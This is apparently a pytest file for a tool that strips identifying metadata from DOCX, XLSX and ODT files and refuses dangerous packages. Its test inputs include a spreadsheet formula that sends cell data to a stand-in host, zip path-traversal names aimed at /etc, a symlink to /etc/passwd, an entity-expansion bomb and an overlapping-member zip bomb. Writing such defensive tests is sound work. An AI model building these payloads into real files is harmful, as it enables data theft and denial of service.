"""DOCX, XLSX and ODT lose what tells who made them, and open as before."""

from __future__ import annotations

import io
import posixpath
import struct
import time
import zipfile
from xml.sax.saxutils import escape

import pytest
from lxml import etree

from inquiries.cleaning.cleaner import Cleaned, Metadatum
from inquiries.cleaning.kinds import Kind
from tests.inquiries.test_cleaning import CANARY, cleaned, exif, jpeg, refusal

Parts = dict[str, str | bytes]

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OPEN = "application/vnd.openxmlformats-officedocument"
P = "http://schemas.openxmlformats.org/package/2006"


def zipped(parts: Parts, **options: object) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(zipfile.ZipInfo(name, (2026, 1, 2, 3, 4, 6)), content, compress_type=zipfile.ZIP_DEFLATED)
        package.comment = CANARY.encode()
    return output.getvalue()


def unzipped(copy: Cleaned) -> dict[str, bytes]:
    with zipfile.ZipFile(copy.content) as package:
        assert package.testzip() is None
        assert package.comment == b""
        assert {(member.date_time, member.extra, member.comment) for member in package.infolist()} == {
            ((1980, 1, 1, 0, 0, 0), b"", b"")
        }
        return {name: package.read(name) for name in package.namelist()}


def leads(*entries: tuple[str, str, str]) -> str:
    """Leads (identifier, last word of the kind, target); one with a scheme leads out of the package."""
    written = ""
    for name, kind, target in entries:
        mode = 'TargetMode="External"' if ":" in target else ""
        written += f'<Relationship Id="{name}" Type="{R}/{kind}" Target="{target}" {mode}/>'
    return f'<Relationships xmlns="{P}/relationships">{written}</Relationships>'


DEFAULTS = {
    "rels": "application/vnd.openxmlformats-package.relationships+xml",
    "xml": "application/xml",
    "jpg": "image/jpeg",
    "emf": "image/x-emf",
    "bin": f"{OPEN}.oleObject",
}


def types(**kinds: str) -> str:
    """Content types by part, with `__` for a slash and `_` for a full stop."""
    written = "".join(f'<Default Extension="{ending}" ContentType="{kind}"/>' for ending, kind in DEFAULTS.items())
    for part, kind in kinds.items():
        written += f'<Override PartName="/{part.replace("__", "/").replace("_", ".")}" ContentType="{kind}"/>'
    return f'<Types xmlns="{P}/content-types">{written}</Types>'


CORE = f"""<cp:coreProperties xmlns:cp="{P}/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"
 xmlns:dcterms="http://purl.org/dc/terms/"><dc:creator>Mari {CANARY}</dc:creator>
 <cp:lastModifiedBy>Jüri {CANARY}</cp:lastModifiedBy><dc:title>Offer {CANARY}</dc:title>
 <dcterms:created>2026-01-02T10:00:00Z</dcterms:created></cp:coreProperties>"""
APP = f"""<Properties xmlns="{OPEN}/extended-properties"><Application>Microsoft Word</Application><Company>{CANARY} OÜ</Company>
 </Properties>"""


def run(words: str) -> str:
    return f"<w:r><w:t>{words}</w:t></w:r>"


def mark(kind: str, inside: str = "") -> str:
    """A change of a kind, with who made it and when."""
    return f'<w:{kind} w:id="1" w:author="Mari {CANARY}" w:date="2026-01-02T10:00:00Z">{inside}</w:{kind}>'


def row(kind: str, words: str) -> str:
    return f"<w:tr><w:trPr>{mark(kind)}</w:trPr><w:tc><w:p>{run(words)}</w:p></w:tc></w:tr>"


GONE = mark("del", f"<w:r><w:delText>{CANARY}</w:delText></w:r>")


def docx(
    body: str = "", *, settings: str = "", extra: Parts | None = None, targets: tuple[tuple[str, str, str], ...] = (), **kinds: str
) -> bytes:
    """A document that says “Is it controlled?”, with `body` behind it."""
    parts: Parts = {
        "[Content_Types].xml": types(
            word__document_xml=f"{OPEN}.wordprocessingml.document.main+xml",
            word__settings_xml=f"{OPEN}.wordprocessingml.settings+xml",
            docProps__core_xml="application/vnd.openxmlformats-package.core-properties+xml",
            docProps__app_xml=f"{OPEN}.extended-properties+xml",
            **kinds,
        ),
        "_rels/.rels": leads(("rId1", "officeDocument", "word/document.xml"), ("rId2", "extended-properties", "docProps/app.xml")),
        "docProps/core.xml": CORE,
        "docProps/app.xml": APP,
        "word/document.xml": f'<w:document xmlns:w="{W}" xmlns:r="{R}" xmlns:o="urn:schemas-microsoft-com:office:office" '
        f'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><!-- {CANARY} --><w:body>'
        f'<w:p w:rsidR="00AB12CD">{run("Is it controlled?")}</w:p>{body}</w:body></w:document>',
        "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:defaultTabStop w:val="709"/>{settings}</w:settings>',
        "word/_rels/document.xml.rels": leads(("rId1", "settings", "settings.xml"), *targets),
    }
    return zipped(parts | (extra or {}))


def document(copy: Cleaned) -> tuple[etree._Element, dict[str, bytes]]:
    parts = unzipped(copy)
    assert [name for name, content in parts.items() if CANARY.encode() in content or CANARY in name] == []
    consistent(parts)
    return etree.fromstring(parts["word/document.xml"]), parts


def consistent(parts: dict[str, bytes]) -> None:
    """Every lead has its part, every part its kind and a lead to it, every reference its lead: what Word asks for."""
    kinds = etree.fromstring(parts["[Content_Types].xml"])
    named = {entry.get("PartName", "").lstrip("/") for entry in kinds if entry.tag.endswith("Override")}
    endings = {entry.get("Extension") for entry in kinds if entry.tag.endswith("Default")}
    assert named <= set(parts)
    assert {name for name in parts if name.rpartition(".")[2] not in endings} <= named | {"[Content_Types].xml"}
    led_to = set()
    for name in [name for name in parts if name.endswith(".rels")]:
        entries = list(etree.fromstring(parts[name]))
        assert [entry.get("TargetMode") for entry in entries if entry.get("TargetMode")] == []
        led_to |= {entry.get("Target").lstrip("/") for entry in entries}
        source = posixpath.join(posixpath.dirname(posixpath.dirname(name)), posixpath.basename(name)[:-5])
        if source in parts:
            used = etree.fromstring(parts[source]).xpath(f"//@*[namespace-uri()='{R}']")
            assert set(used) <= {entry.get("Id") for entry in entries}
    assert led_to == {name for name in parts if not name.endswith(".rels")} - {"[Content_Types].xml"}


# --- DOCX -----------------------------------------------------------------------------------------------------------


def test_a_document_loses_its_properties_and_is_told_of() -> None:
    copy = cleaned(docx(), "Offer.docx")
    assert (copy.kind, copy.name, copy.text) == (Kind.DOCX, "Offer.docx", "Is it controlled?")
    assert copy.found == (
        Metadatum("author", f"Mari {CANARY}"),
        Metadatum("author", f"Jüri {CANARY}"),
        Metadatum("title", f"Offer {CANARY}"),
        Metadatum("dates", "2026-01-02T10:00:00Z"),
        Metadatum("software", "Microsoft Word"),
        Metadatum("company", f"{CANARY} OÜ"),
    )
    root, parts = document(copy)
    assert set(parts) == {
        "[Content_Types].xml",
        "_rels/.rels",
        "word/document.xml",
        "word/settings.xml",
        "word/_rels/document.xml.rels",
    }
    assert root.xpath("//@*[starts-with(local-name(), 'rsid')]") == []


@pytest.mark.parametrize(
    ("body", "text", "number"),
    [
        (f"<w:p>{mark('ins', run('new'))}</w:p>", "new", 1),
        (f"<w:p>{run('kept ')}{GONE}</w:p>", "kept ", 1),
        (f"<w:p>{mark('moveFrom', run(CANARY))}{mark('moveTo', run('moved'))}</w:p>", "moved", 2),
        (f"<w:p>{mark('ins', GONE + run('a'))}</w:p>", "a", 2),
        (f"<w:p><w:r><w:rPr><w:b/>{mark('rPrChange')}</w:rPr><w:t>bold</w:t></w:r></w:p>", "bold", 1),
        (f"<w:p><w:pPr><w:rPr>{mark('del')}</w:rPr></w:pPr>{GONE}</w:p><w:p>{run('b')}</w:p>", "b", 2),
        (
            f"<w:tbl>{row('del', CANARY)}{row('ins', 'cell')}</w:tbl>",
            "cell",
            2,
        ),
    ],
)
def test_changes_are_accepted_and_who_made_them_is_gone(body: str, text: str, number: int) -> None:
    copy = cleaned(docx(body))
    assert Metadatum("tracked-changes", f"changes, all accepted; deleted words are gone: {number}") in copy.found
    assert copy.text == f"Is it controlled?\n{text}"
    root, _ = document(copy)
    assert root.xpath("//@*[local-name()='author' or local-name()='date']") == []
    assert root.xpath("//*[local-name()='ins' or local-name()='del' or local-name()='rPrChange']") == []


def test_lines_of_a_drawing_are_no_changes() -> None:
    path = "<w:p><w:r><w:drawing><a:path><a:moveTo><a:pt x='1' y='2'/></a:moveTo></a:path></w:drawing></w:r></w:p>"
    root, _ = document(cleaned(docx(path)))
    assert len(root.xpath("//*[local-name()='moveTo']")) == 1


def test_comments_stay_without_their_authors() -> None:
    made = mark("comment", f"<w:p>{run('Is it so?')}</w:p>").replace("w:date", 'w:initials="MM" w:date')
    comments = f'<w:comments xmlns:w="{W}">{made}</w:comments>'
    people = f'<p:people xmlns:p="urn:x"><p:person p:author="Kalle {CANARY}"/></p:people>'
    copy = cleaned(
        docx(
            extra={"word/comments.xml": comments, "word/people.xml": people},
            targets=(("rId7", "comments", "comments.xml"), ("rId8", "people", "people.xml")),
            word__comments_xml=f"{OPEN}.wordprocessingml.comments+xml",
            word__people_xml=f"{OPEN}.wordprocessingml.people+xml",
        )
    )
    assert {
        Metadatum("comments", "comments, kept without their authors: 1"),
        Metadatum("author", f"Kalle {CANARY}"),
        Metadatum("author", f"Mari {CANARY}"),
    } <= set(copy.found)
    _, parts = document(copy)
    comment = etree.fromstring(parts["word/comments.xml"])[0]
    assert dict(comment.attrib) == {f"{{{W}}}id": "1", f"{{{W}}}author": ""}
    assert "Is it so?" in copy.text


def test_links_templates_and_files_inside_go_and_their_words_stay() -> None:
    body = (
        f'<w:p><w:hyperlink r:id="rId5">{run("our page")}</w:hyperlink></w:p>'
        '<w:p><w:r><w:object><o:OLEObject r:id="rId6"/></w:object></w:r></w:p>'
        f'<w:p><w:fldSimple w:instr=" FILENAME \\p ">{run("offer")}</w:fldSimple></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText> HYPERLINK "file://server/{CANARY}" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'{run("there")}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    copy = cleaned(
        docx(
            body,
            settings=f'<w:attachedTemplate r:id="rId1"/><w:docVars><w:docVar w:name="x" w:val="{CANARY}"/></w:docVars>',
            extra={
                "word/embeddings/oleObject1.bin": f"ole {CANARY}",
                "word/_rels/settings.xml.rels": leads(("rId1", "attachedTemplate", f"file:///C:/Users/{CANARY}/T.dotx")),
                "customXml/item1.xml": f"<a>{CANARY}</a>",
                "docProps/thumbnail.jpg": jpeg(),
            },
            targets=(
                ("rId5", "hyperlink", f"https://{CANARY}.example/"),
                ("rId6", "oleObject", "embeddings/oleObject1.bin"),
                ("rId9", "customXml", "../customXml/item1.xml"),
            ),
        )
    )
    assert {
        Metadatum("links", f"https://{CANARY}.example/"),
        Metadatum("links", f"file:///C:/Users/{CANARY}/T.dotx"),
        Metadatum("links", f"file://server/{CANARY}"),
        Metadatum("embedded", "oleObject1.bin"),
    } <= set(copy.found)
    root, parts = document(copy)
    assert [part for part in parts if part.startswith(("word/embeddings", "customXml", "docProps"))] == []
    assert copy.text.splitlines() == ["Is it controlled?", "our page", "offer", "there"]
    assert root.xpath("//*[local-name()='instrText']/text()") == [" PAGE "]


def test_pictures_are_cleaned_and_renamed_and_those_that_cannot_be_are_left_out() -> None:
    body = '<w:p><w:r><w:drawing><a:blip r:embed="rId5"/><a:blip r:embed="rId6"/></w:drawing></w:r></w:p>'
    photo = jpeg(exif=exif())
    copy = cleaned(
        docx(
            body,
            extra={f"word/media/{CANARY}.jpg": photo, "word/media/image2.emf": f"\1\0\0\0 {CANARY}"},
            targets=(("rId5", "image", f"media/{CANARY}.jpg"), ("rId6", "image", "media/image2.emf")),
        )
    )
    assert {
        Metadatum("gps", "58.37811° N, 26.71694° E"),
        Metadatum("other", "a picture of a kind that can't be cleaned, taken out: EMF"),
    } <= set(copy.found)
    root, parts = document(copy)
    assert [dict(blip.attrib) for blip in root.xpath("//*[local-name()='blip']")] == [{f"{{{R}}}embed": "rId5"}, {}]
    assert parts["word/media/picture1.jpg"].startswith(b"\xff\xd8\xff")


def test_hidden_text_is_told_of_and_read() -> None:
    copy = cleaned(docx("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>secret price</w:t></w:r></w:p>"))
    assert Metadatum("hidden", "hidden text, kept: “secret price”") in copy.found
    assert copy.text == "Is it controlled?\nsecret price"


# --- XLSX -----------------------------------------------------------------------------------------------------------

S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def xlsx(
    extra: Parts | None = None, targets: tuple[tuple[str, str, str], ...] = (), main: str = "sheet.main", **kinds: str
) -> bytes:
    sheet = (
        f'<worksheet xmlns="{S}" xmlns:r="{R}"><cols><col min="3" max="4" hidden="1"/></cols><sheetData>'
        '<row r="1"><c r="A1" t="s"><v>0</v></c>'
        f"<c r='B1'><f>A1*2</f><v>4</v></c><c r='C1'><f>'[1]Price {CANARY}'!A1</f><v>7</v></c></row>"
        "<row r='2' hidden='1'/></sheetData>"
        f'<protectedRanges><protectedRange securityDescriptor="{CANARY}"/></protectedRanges>'
        '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks><legacyDrawing r:id="rId9"/></worksheet>'
    )
    parts: Parts = {
        "[Content_Types].xml": types(
            xl__workbook_xml=f"{OPEN}.spreadsheetml.{main}+xml",
            xl__sheet1_xml=f"{OPEN}.spreadsheetml.worksheet+xml",
            xl__sheet2_xml=f"{OPEN}.spreadsheetml.worksheet+xml",
            xl__sharedStrings_xml=f"{OPEN}.spreadsheetml.sharedStrings+xml",
            xl__comments_xml=f"{OPEN}.spreadsheetml.comments+xml",
            xl__link_xml=f"{OPEN}.spreadsheetml.externalLink+xml",
            docProps__core_xml="application/vnd.openxmlformats-package.core-properties+xml",
            **kinds,
        ),
        "_rels/.rels": leads(("rId1", "officeDocument", "xl/workbook.xml")),
        "docProps/core.xml": CORE,
        "xl/workbook.xml": f'<workbook xmlns="{S}" xmlns:r="{R}" xmlns:x15ac="urn:x"><fileSharing userName="{CANARY}"/>'
        f'<x15ac:absPath url="C:\\Users\\{CANARY}\\"/><workbookPr codeName="{CANARY}" date1904="1"/>'
        '<sheets><sheet name="Offer" sheetId="1" r:id="rId1"/>'
        '<sheet name="Costs" sheetId="2" state="veryHidden" r:id="rId2"/></sheets>'
        f'<externalReferences><externalReference r:id="rId4"/></externalReferences>'
        f"<definedNames><definedName name='out'>'[1]{CANARY}'!A1</definedName>"
        f"<definedName name='rate' comment='{CANARY}'>Offer!A1</definedName>"
        "</definedNames></workbook>",
        "xl/_rels/workbook.xml.rels": leads(
            ("rId1", "worksheet", "sheet1.xml"), ("rId2", "worksheet", "/xl/sheet2.xml"),
            ("rId3", "sharedStrings", "sharedStrings.xml"), ("rId4", "externalLink", "link.xml"), *targets,
        ),
        "xl/sheet1.xml": sheet,
        "xl/sheet2.xml": f'<worksheet xmlns="{S}"><sheetData><row r="1"><c r="A1" t="str"><v>margin</v></c></row></sheetData>'
        "</worksheet>",
        "xl/_rels/sheet1.xml.rels": leads(
            ("rId1", "hyperlink", f"mailto:{CANARY}@x.example"), ("rId2", "comments", "comments.xml")
        ),
        "xl/sharedStrings.xml": f'<sst xmlns="{S}"><si><t>Lathe</t></si></sst>',
        "xl/comments.xml": f'<comments xmlns="{S}"><authors><author>Mari {CANARY}</author></authors><commentList>'
        f'<comment ref="A1" authorId="0"><text><r><t>Mari {CANARY}:</t></r><r><t>ask again</t></r></text></comment>'
        "</commentList></comments>",
        "xl/link.xml": f'<externalLink xmlns="{S}"/>',
        "xl/_rels/link.xml.rels": leads(("rId1", "externalLinkPath", f"file:///C:/{CANARY}.xlsx")),
    }  # fmt: skip
    return zipped(parts | (extra or {}))


def test_a_workbook_loses_who_made_it_and_keeps_its_cells() -> None:
    copy = cleaned(xlsx(), "Prices.xls")
    assert (copy.kind, copy.name) == (Kind.XLSX, "Prices.xlsx")
    assert {
        Metadatum("author", f"Mari {CANARY}"),
        Metadatum("links", f"file:///C:/{CANARY}.xlsx"),
        Metadatum("links", f"mailto:{CANARY}@x.example"),
        Metadatum("links", f"'[1]Price {CANARY}'!A1"),
        Metadatum("hidden", "sheet “Costs” is hidden, and kept"),
        Metadatum("hidden", "hidden rows, kept: 1"),
        Metadatum("hidden", "hidden columns, kept: 2"),
        Metadatum("comments", "comments, kept without their authors: 1"),
    } <= set(copy.found)
    assert {"Lathe", "Offer", "Costs", "rate", "margin", "ask again"} <= set(copy.text.splitlines())
    parts = unzipped(copy)
    assert [name for name, content in parts.items() if CANARY.encode() in content] == []
    consistent(parts)
    sheet = etree.fromstring(parts["xl/sheet1.xml"])
    assert sheet.xpath("//s:c/@r", namespaces={"s": S}) == ["A1", "B1", "C1"]
    assert sheet.xpath("//s:f/text()", namespaces={"s": S}) == ["A1*2"]
    assert sheet.xpath("//s:v/text()", namespaces={"s": S}) == ["0", "4", "7"]
    workbook = etree.fromstring(parts["xl/workbook.xml"])
    assert [(entry.get("name"), entry.text) for entry in workbook.xpath("//s:definedName", namespaces={"s": S})] == [
        ("rate", "Offer!A1")
    ]


OUT = '_xlfn.IMAGE("ht"&"tps://collect.example/"&A1)'


def test_a_workbook_asks_no_other_machine_for_anything() -> None:
    """Its formulas keep their last value; an address that is put together bit by bit is known by the function that takes it."""
    calls = [OUT, 'HYPERLINK("ht"&"tp://"&A1,"here")', "CALL(A1,A2)", 'RTD("a.b",,"c")', "Prices[Image]", "RECALL+1"]
    cells = "".join(
        f'<c r="{column}1"><f>{escape(call)}</f><v>{number}</v></c>'
        for number, (column, call) in enumerate(zip("ABCDEF", calls, strict=True))
    )
    sheet = (
        f'<worksheet xmlns="{S}"><sheetData><row r="1">{cells}</row></sheetData>'
        f'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>{escape(OUT)}</formula></cfRule>'
        f'</conditionalFormatting><dataValidations count="2"><dataValidation sqref="A1"><formula1>{escape(OUT)}</formula1>'
        f"<formula2>{escape(OUT)}</formula2></dataValidation><dataValidation sqref='A2'><formula1>A1</formula1></dataValidation>"
        "</dataValidations></worksheet>"
    )
    copy = cleaned(xlsx({"xl/sheet1.xml": sheet, "xl/_rels/sheet1.xml.rels": leads()}), "Prices.xlsx")
    assert Metadatum("links", OUT) in copy.found
    root = etree.fromstring(unzipped(copy)["xl/sheet1.xml"])
    assert root.xpath("//s:f/text()", namespaces={"s": S}) == ["Prices[Image]", "RECALL+1"]
    assert root.xpath("//s:v/text()", namespaces={"s": S}) == list("012345")
    assert root.xpath("//*[starts-with(local-name(), 'formula')]/text()") == ["A1"]
    assert root.xpath("//s:conditionalFormatting", namespaces={"s": S}) == []


# --- ODT ------------------------------------------------------------------------------------------------------------

ODT = "application/vnd.oasis.opendocument.text"
NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:config="urn:oasis:names:tc:opendocument:xmlns:config:1.0" '
    'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"'
)
CHANGE = f"<office:change-info><dc:creator>Jüri {CANARY}</dc:creator><dc:date>2026-01-02</dc:date></office:change-info>"


def odt(body: str = "", extra: Parts | None = None, encrypted: str = "") -> bytes:
    item = '<config:config-item config:name="{}" config:type="{}">{}</config:config-item>'
    parts: Parts = {
        "mimetype": ODT,
        "content.xml": f"<office:document-content {NAMESPACES}><office:body><office:text><text:p>Is it controlled?</text:p>{body}"
        "</office:text></office:body></office:document-content>",
        "styles.xml": f"<office:document-styles {NAMESPACES}/>",
        "meta.xml": f"<office:document-meta {NAMESPACES}><office:meta><meta:initial-creator>Mari {CANARY}</meta:initial-creator>"
        f"<meta:generator>LibreOffice</meta:generator>"
        f"<meta:user-defined meta:name='Firm'>{CANARY}</meta:user-defined></office:meta>"
        "</office:document-meta>",
        "settings.xml": f"<office:document-settings {NAMESPACES}><office:settings>{item.format('PrinterName', 'string', CANARY)}"
        f"{item.format('AddParaTableSpacing', 'boolean', 'true')}{item.format('Rsid', 'int', '123')}"
        f"</office:settings></office:document-settings>",
        "Thumbnails/thumbnail.png": CANARY,
        "META-INF/manifest.xml": f'<manifest:manifest {NAMESPACES}><manifest:file-entry manifest:full-path="/" '
        f'manifest:media-type="{ODT}">{encrypted}</manifest:file-entry></manifest:manifest>',
    }
    return zipped(parts | (extra or {}))


def test_a_text_loses_who_made_it_and_keeps_its_words() -> None:
    body = (
        f"<text:tracked-changes><text:changed-region><text:deletion>{CHANGE}<text:p>{CANARY}</text:p></text:deletion></text:changed-region>"
        "</text:tracked-changes><text:p>kept<text:change/> words</text:p>"
        f"<text:p>look:<office:annotation><dc:creator>Mari {CANARY}</dc:creator><dc:date>2026-01-02</dc:date>"
        "<text:p>Is it so?</text:p>"
        "</office:annotation><text:tab/>here</text:p><text:p>by <text:author-name>us</text:author-name></text:p>"
        f"<text:p><text:a xlink:href='https://{CANARY}.example'>our page</text:a></text:p>"
        f"<draw:frame><draw:image xlink:href='Pictures/{CANARY}.jpg'/><svg:title>our lathe</svg:title></draw:frame>"
        f"<draw:frame><draw:image xlink:href='file:///home/{CANARY}/a.png'/></draw:frame>"
    )
    copy = cleaned(odt(body, {f"Pictures/{CANARY}.jpg": jpeg(exif=exif())}), "offer.odt")
    assert (copy.kind, copy.name) == (Kind.ODT, "offer.odt")
    assert {
        Metadatum("author", f"Mari {CANARY}"),
        Metadatum("author", f"Jüri {CANARY}"),
        Metadatum("software", "LibreOffice"),
        Metadatum("other", f"Firm: {CANARY}"),
        Metadatum("embedded", "a small preview picture"),
        Metadatum("tracked-changes", "changes, all accepted; deleted words are gone: 1"),
        Metadatum("comments", "comments, kept without their authors: 1"),
        Metadatum("links", f"https://{CANARY}.example"),
        Metadatum("links", f"file:///home/{CANARY}/a.png"),
        Metadatum("camera", "EOS 5"),
    } <= set(copy.found)
    assert {"Is it controlled?", "kept words", "look: here", "Is it so?", "by us", "our page", "our lathe"} <= set(
        copy.text.splitlines()
    )
    content = copy.content.read()
    assert content[30:38] == b"mimetype"
    assert content[38:].startswith(ODT.encode())  # first and not compressed, so that the kind is known without unpacking
    copy.content.seek(0)
    parts = unzipped(copy)
    assert set(parts) == {
        "mimetype", "content.xml", "styles.xml", "settings.xml", "meta.xml", "Pictures/picture1.jpg", "META-INF/manifest.xml",
    }  # fmt: skip
    assert [name for name, held in parts.items() if CANARY.encode() in held] == []
    assert b"AddParaTableSpacing" in parts["settings.xml"]
    assert b"Rsid" not in parts["settings.xml"]
    listed = etree.fromstring(parts["META-INF/manifest.xml"]).xpath("//@*[local-name()='full-path']")
    assert set(listed) == set(parts) - {"mimetype", "META-INF/manifest.xml"} | {"/"}
    shown = etree.fromstring(parts["content.xml"]).xpath("//@*[local-name()='href']")
    assert shown == ["Pictures/picture1.jpg"]


# --- refusals -------------------------------------------------------------------------------------------------------

LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">' + "".join(
    f'<!ENTITY {chr(98 + step)} "{f"&{chr(97 + step)};" * 10}">' for step in range(1, 12)
)


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (docx(extra={"word/vbaProject.bin": b"x"}), "active-content"),
        (xlsx(main="macroEnabled.main"), "active-content"),
        (xlsx(xl__macro_xml="application/vnd.ms-excel.macrosheet+xml"), "active-content"),
        (odt(extra={"Basic/Standard/Module1.xml": "<a/>"}), "active-content"),
        (docx(extra={"word/document.xml": LAUGHS + "]><a>&m;</a>"}), "active-content"),
        (odt(extra={"content.xml": '<!DOCTYPE a SYSTEM "http://x.example/a.dtd"><a/>'}), "active-content"),
        (odt(encrypted="<manifest:encryption-data/>"), "encrypted"),
        (xlsx(main="template.main"), "unknown-type"),
        (odt(extra={"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), "unknown-type"),
        (zipped({"a.txt": "words"}), "unknown-type"),
        (zipped({"[Content_Types].xml": types(), "ppt/presentation.xml": "<a/>"}), "unknown-type"),
        (zipped({"[Content_Types].xml": types(), "word/document.xml": "<a/>"}), "damaged"),
        (docx(extra={"word/document.xml": "<w:document"}), "damaged"),
        (docx(extra={"word/document.xml": "<a>" * 5_000 + "</a>" * 5_000}), "damaged"),
        (docx(extra={"../../etc/cron.d/x": "x"}), "damaged"),
        (docx(extra={"/etc/passwd": "x"}), "damaged"),
        (docx(extra={"WORD/DOCUMENT.XML": "x"}), "damaged"),
        (docx()[:-60], "damaged"),
        (docx(extra={f"word/{number}.xml": "" for number in range(5_001)}), "bomb"),
        (docx(extra={"word/a.bin": b"\0" * (30 << 20)}), "bomb"),
    ],
)
def test_what_is_broken_or_meant_to_break_is_refused(content: bytes, code: str) -> None:
    begun = time.monotonic()
    assert refusal(content, "a.docx") == code
    assert time.monotonic() - begun < 10


def test_a_member_that_leads_elsewhere_is_refused() -> None:
    output = io.BytesIO(docx())
    with zipfile.ZipFile(output, "a") as package:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    assert refusal(output.getvalue()) == "damaged"


def test_a_member_with_a_password_is_refused() -> None:
    coded = bytearray(docx())
    coded[coded.rindex(b"PK\1\2") + 8] |= 1
    assert refusal(bytes(coded)) == "encrypted"


def test_a_package_whose_members_lie_over_one_another_is_refused() -> None:
    """4,000 members are the same 60,000 bytes: a small file, 240 MB unpacked."""
    whole = zipped({"[Content_Types].xml": types(), "word/document.xml": b"a" * 60_000})
    start, second, end = whole.index(b"PK\1\2"), whole.rindex(b"PK\1\2"), whole.rindex(b"PK\5\6")
    entries = [whole[second:end].replace(b"word/document.xml", f"word/{number:08}.xml".encode()) for number in range(4_000)]
    directory = whole[start:second] + b"".join(entries)
    tail = struct.pack("<4s4xHHIIH", b"PK\5\6", 4_001, 4_001, len(directory), start, 0)
    assert refusal(whole[:start] + directory + tail) == "bomb"
